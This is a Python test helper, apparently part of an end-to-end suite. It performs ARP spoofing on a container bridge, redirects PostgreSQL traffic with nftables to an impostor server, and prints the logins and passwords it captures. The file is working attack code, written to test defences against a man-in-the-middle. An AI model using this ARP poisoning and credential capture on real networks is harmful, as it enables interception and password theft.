"""A neighbour on the lab's bridge that claims another container's address, from root's network in its own container.

`spoof.py ADDRESS VICTIM VICTIM_MAC TLS` gives the victim the container's own MAC address for ADDRESS, and answers its
connections as an impostor of PostgreSQL. TLS is `none`, or the file of a certificate. It prints a line once it claims
the address. It ends with its standard input, or after two minutes, and prints the received logins and passwords as
JSON.
"""

from __future__ import annotations

import itertools
import json
import select
import socket
import subprocess
import sys
import threading
from collections.abc import Sequence
from contextlib import suppress
from ipaddress import IPv4Address
from pathlib import Path

from tests.integration.impostor import impostor

DEVICE = "eth0"
_LONGEST = 120  # seconds
_CLAIMED = "claimed\n"
_ARP, _REPLY = 0x0806, b"\0\1\x08\0\6\4\0\2"
_RULES = """table ip spoof {{
  chain prerouting {{
    type nat hook prerouting priority dstnat; policy accept;
    ip daddr {address} tcp dport 5432 redirect to :{port}
  }}
}}
"""


def begin(enter: Sequence[str], *words: str) -> subprocess.Popen[str]:
    """Start this program with its arguments in the network that `enter` enters, and wait until it claims the address.

    `communicate` ends it and returns its JSON.
    """
    process = subprocess.Popen(
        [*enter, sys.executable, "-m", "tests.e2e.spoof", *words],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    assert process.stdout
    assert process.stdout.readline() == _CLAIMED
    return process


def mac(text: str) -> bytes:
    """Return the bytes of a MAC address."""
    return bytes.fromhex(text.replace(":", ""))


def claim(address: str, victim: str, victim_mac: str, over: threading.Event) -> None:
    """Tell the victim ten times a second that this container has the address; print a line after the first time."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind((DEVICE, _ARP))
        own = raw.getsockname()[4]
        frame = mac(victim_mac) + own + _ARP.to_bytes(2) + _REPLY
        frame += own + IPv4Address(address).packed + mac(victim_mac) + IPv4Address(victim).packed
        for count in itertools.count():
            with suppress(OSError):  # the node's filter drops it
                raw.send(frame)
            if not count:
                print(end=_CLAIMED, flush=True)
            if over.wait(0.1):
                return


def main() -> None:
    """Spoof until the end of the standard input; see the module's docstring."""
    address, victim, victim_mac, tls = sys.argv[1:]
    certificate = None if tls == "none" else Path(tls).read_text()
    over = threading.Event()
    with impostor(certificate, "0.0.0.0") as running:  # noqa: S104 - in the container's network
        rules = _RULES.format(address=address, port=running.port)
        subprocess.run(["nft", "-f", "-"], input=rules.encode(), check=True)
        claiming = threading.Thread(target=claim, args=(address, victim, victim_mac, over))
        claiming.start()
        try:
            select.select([sys.stdin], [], [], _LONGEST)
        finally:
            over.set()
            claiming.join()
            subprocess.run(["nft", "delete", "table", "ip", "spoof"], check=True)
    passwords, logins = ([each.decode() for each in found] for found in (running.passwords, running.logins))
    print(json.dumps({"connections": running.connections, "passwords": passwords, "logins": logins}))


if __name__ == "__main__":
    main()
